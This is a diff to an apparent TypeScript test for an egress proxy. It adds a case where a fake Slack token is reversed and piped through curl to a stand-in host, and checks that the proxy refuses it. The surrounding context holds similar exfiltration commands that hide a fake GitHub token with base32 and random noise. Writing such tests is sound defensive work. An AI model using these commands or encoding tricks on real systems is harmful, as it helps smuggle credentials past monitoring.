@@ -83,6 +83,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
   const reached = async (path: string) =>
     (await upstream.received()).some((r) => String(r.path) === path);
   const token = "gh" + "p_Zq8Lr2Xv9Kt4Wm7Pn3Bc6Hd1Fj5Gs0Ya8Ue2";
+  const SLACK = "xo" + "xb-2394857610-5829104738261-Zq8Lw2Rt9Kt4mXv7Pq3Ns6Yb";
   try {
     await t.step(
       "a chunked body over the limit is refused, and its URL is scanned first",
@@ -380,7 +381,10 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             "curl -sS -o /tmp/refused -w '%{http_code}' --data-binary @- https://plain.fake.test/v1/png; echo; cat /tmp/refused; echo; " +
             // Behind a letter, which shifts base32's groups of eight, after 6 KB of noise.
             `{ head -c 6000 /dev/urandom; printf 'TOKEN=%s\\n' '${token}'; } | base32 -w0 | sed 's/^/A/' | ` +
-            "curl -sS -o /tmp/refused -w '%{http_code}' --data-binary @- https://plain.fake.test/v1/b32; echo; cat /tmp/refused",
+            "curl -sS -o /tmp/refused -w '%{http_code}' --data-binary @- https://plain.fake.test/v1/b32; echo; cat /tmp/refused; echo; " +
+            // A prefix whose head repeats a character (Slack's `xox`).
+            `printf %s '${SLACK}' | rev | curl -sS -o /tmp/refused -w '%{http_code}' ` +
+            "--data-binary @- https://plain.fake.test/v1/slackrev; echo; cat /tmp/refused",
         );
         assert.match(
           turned.stdout,
@@ -395,9 +399,13 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
         assert.match(turned.stdout, /\n403\n.*in the body, each character doubled/);
         assert.match(turned.stdout, /\n403\n.*in the body, base64-encoded/);
         assert.match(turned.stdout, /\n403\n.*in the body, base32-encoded/);
+        assert.match(
+          turned.stdout,
+          /\n403\n.*Slack token \(rule slack-token\) in the body, reversed/,
+        );
         assert.equal(
           turned.stdout.match(/^403$/gm)?.length,
-          10,
+          11,
           `each is refused: ${turned.stdout}`,
         );
         const reversed = [...token].reverse().join("");
@@ -413,6 +421,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             "/v1/doubled",
             "/v1/png",
             "/v1/b32",
+            "/v1/slackrev",
           ]
         ) {
           assert.ok(!(await reached(path)), `nothing reached ${path}`);
